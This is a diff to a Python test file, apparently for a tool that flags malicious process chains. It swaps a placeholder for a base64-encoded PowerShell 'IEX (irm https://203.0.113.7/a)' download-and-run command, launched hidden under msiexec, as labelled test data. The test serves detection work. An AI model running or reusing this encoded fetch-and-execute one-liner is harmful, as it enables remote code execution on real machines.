@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
 from dataclasses import replace
 from typing import Any
 
@@ -224,9 +225,10 @@ def test_each_view_takes_away_what_its_name_says() -> None:
 
 def test_less_data_is_measured_beside_all_of_it() -> None:
     """A script host below an installer is found by GUID and by id, without lines by neither."""
+    line = b64encode("IEX (irm https://203.0.113.7/a)".encode("utf-16-le")).decode()
     rows = [
         row("msiexec.exe", 4, 2, 2, process="msiexec /q /i https://files.example/a.msi"),
-        row("powershell.exe", 8, 4, 3, process="powershell -w hidden -enc " + "SQBFAFgA" * 12),
+        row("powershell.exe", 8, 4, 3, process=f"powershell -w hidden -enc {line}"),
     ]
     data = data_set(*(("bad", r) for r in rows), bad="malicious")
     table = {
